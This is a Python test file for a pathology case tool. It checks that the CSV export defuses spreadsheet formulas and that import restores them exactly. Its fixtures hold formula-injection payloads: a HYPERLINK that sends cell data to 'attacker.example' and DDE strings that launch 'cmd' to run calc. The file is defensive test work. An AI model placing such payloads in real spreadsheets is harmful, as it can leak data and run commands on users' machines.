"""Spreadsheet formulas in the case CSV: neutralised on export, exactly restored on import.

A family name typed as `=HYPERLINK(...)` used to be exported as it was, and a spreadsheet opening the
export ran it (the audit export already defused such cells); both now share `exchange.spreadsheet`.
"""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.backends import make_entry

from her2desk.cli import main
from her2desk.exchange.spreadsheet import FORMULA_STARTS, defuse, restore
from her2desk.services.case_service import open_case_service

NAMES = {
    "S26-00001": ('=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+cmd|' /C calc'!A0"),
    "S26-00002": ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
    "S26-00003": ("'=already protected", "O'Brien"),
    "S26-00004": ("'plain apostrophe", "Ann-=Marie"),
}
BLOCK = "=1+1"
CLONE = "@4B5"


def _store(url: str) -> None:
    with open_case_service(url, "tester") as service:
        for accession, (family, given_name) in NAMES.items():
            entry = make_entry(accession, mrn=f"DEMO{accession[-5:]}")
            entry = entry.with_changes(
                patient=replace(entry.patient, family_name=family, given_name=given_name),
                specimen=replace(entry.specimen, block=BLOCK),
                ihc=replace(entry.ihc, clone=CLONE),
            )
            service.save(entry, None)


def _export(url: str, target: Path) -> list[dict[str, str]]:
    assert main(["--database", url, "export", "--format", "csv", "-o", str(target)]) == 0
    with target.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_no_exported_cell_is_a_formula(db_url: str, tmp_path: Path) -> None:
    _store(db_url)
    rows = _export(db_url, tmp_path / "cases.csv")
    assert len(rows) == len(NAMES)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    by_accession = {row["accession"]: row for row in rows}
    first = by_accession["S26-00001"]
    assert first["family_name"] == "'" + NAMES["S26-00001"][0]
    assert first["given_name"] == "'+cmd|' /C calc'!A0"
    assert first["block"] == "'=1+1"
    assert first["ihc_clone"] == "'@4B5"
    assert by_accession["S26-00003"]["family_name"] == "''=already protected"
    assert by_accession["S26-00003"]["given_name"] == "O'Brien"
    assert by_accession["S26-00004"]["family_name"] == "'plain apostrophe"


def test_an_export_imports_back_to_exactly_the_stored_values(db_url: str, tmp_path: Path) -> None:
    _store(db_url)
    target = tmp_path / "cases.csv"
    _export(db_url, target)
    copy = str(tmp_path / "copy.sqlite3")
    assert main(["--database", copy, "import", str(target)]) == 0
    with open_case_service(copy) as service:
        for accession, (family, given_name) in NAMES.items():
            stored = service.load(accession)
            assert stored is not None
            assert (stored.entry.patient.family_name, stored.entry.patient.given_name) == (family, given_name)
            assert (stored.entry.specimen.block, stored.entry.ihc.clone) == (BLOCK, CLONE)


def test_a_hand_made_file_keeps_its_values(tmp_path: Path) -> None:
    """Import takes an apostrophe away only where export would have put one: `'abc` stays `'abc`."""
    from her2desk.exchange.csv_cases import parse_csv

    text = (
        "accession,mrn,family_name,given_name,birth_date,site,procedure,laterality,ihc,stained_pct\n"
        "S26-00009,DEMO000009,'Abc,'=x,1960-01-02,breast,core-needle-biopsy,left,3+,80\n"
    )
    path = tmp_path / "hand.csv"
    path.write_text(text, encoding="utf-8")
    with path.open(encoding="utf-8", newline="") as stream:
        parsed = parse_csv(stream)
    assert parsed.problems == []
    [(_row, entry)] = parsed.entries
    assert (entry.patient.family_name, entry.patient.given_name) == ("'Abc", "=x")


@given(st.text())
def test_defuse_is_undone_by_restore_and_leaves_no_formula(cell: str) -> None:
    written = defuse(cell)
    assert not written.startswith(FORMULA_STARTS)
    assert restore(written) == cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
     ("'=1", "''=1"), ("''@x", "'''@x"), ("'x", "'x"), ("a=1", "a=1"), ("", "")],
)  # fmt: skip
def test_which_cells_get_an_apostrophe(cell: str, written: str) -> None:
    assert defuse(cell) == written
    assert restore(written) == cell
